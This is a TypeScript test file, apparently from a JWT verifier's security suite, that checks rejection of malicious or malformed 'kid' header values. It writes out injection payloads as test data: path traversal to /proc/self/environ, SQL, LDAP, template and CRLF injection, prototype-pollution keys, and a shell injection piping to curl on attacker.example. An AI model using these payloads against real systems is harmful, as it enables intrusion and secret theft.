import { type Attack, attackAccess, attackClass, otherUrl, partnerUrl } from '../support/attacks.ts'
import { makeKey } from '../support/keys.ts'
import { baseClaims, minter } from '../support/token.ts'

const key = makeKey('RSA', 'k1')
const second = makeKey('RSA', 'k2')
const lone = makeKey('P-256', 'lone')
const odd = makeKey('RSA', '../keys/__proto__')
const mint = minter(key, 'RS256', baseClaims(partnerUrl))
const mintLone = minter(lone, 'ES256', baseClaims(otherUrl))

const unknown: readonly (readonly [string, string])[] = [
  ['of nobody', 'k3'],
  ['empty', ''],
  ['in another case', 'K1'],
  ['with a space behind', 'k1 '],
  ['with a NUL behind', 'k1\u0000'],
  ['with a NUL and a path', 'k1\u0000.pem'],
  ['of a path', '../../../../../../dev/null'],
  ['of an absolute path', '/proc/self/environ'],
  ['of a URL', 'https://attacker.example/jwks#k1'],
  ['of SQL', "k3' UNION SELECT 'secret' -- "],
  ['of a shell', 'k1|curl https://attacker.example'],
  ['of LDAP', '*)(kid=*'],
  ['of a template', '{{7*7}}$(id)'],
  ['of line feeds', 'k1\r\nx-injected: 1\n{"effect":"allow"}'],
  ['of a direction mark', '\u202ek1'],
  ['of a lone surrogate', '\ud800'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['toString', 'toString'],
  ['hasOwnProperty', 'hasOwnProperty'],
  ['a position in the set', '0'],
  ['of 4,000 characters', 'k'.repeat(4000)],
]
const wrong: readonly (readonly [string, unknown])[] = [
  ['a number', 1],
  ['zero', 0],
  ['null', null],
  ['true', true],
  ['an array', ['k1']],
  ['an object', { kid: 'k1' }],
]

attackClass('kid', attackAccess({ partner: [key, second, odd], other: [lone] }), {
  controls: [
    ['the kid of its key', mint()],
    ['no kid, where the issuer has one key', mintLone({ header: { kid: undefined } })],
    ['a kid of odd characters that the issuer does publish', minter(odd, 'RS256', baseClaims(partnerUrl))()],
  ],
  attacks: [
    ['missing, with several keys', 'key_ambiguous', mint({ header: { kid: undefined } })],
    ...unknown.map(([name, kid]): Attack => [name, 'key_unknown', mint({ header: { kid } })]),
    ...wrong.map(([name, kid]): Attack => [name, 'header_invalid', mint({ header: { kid } })]),
    ['of 10 kB', 'token_too_large', mint({ header: { kid: 'k'.repeat(10_240) } })],
    ["another key's", 'signature_invalid', mint({ header: { kid: 'k2' } })],
    ['unknown, where the issuer has one key', 'key_unknown', mintLone({ header: { kid: 'k1' } })],
    ['twice', 'header_invalid', mint({ header: '{"alg":"RS256","kid":"k2","kid":"k1"}' })],
  ],
})
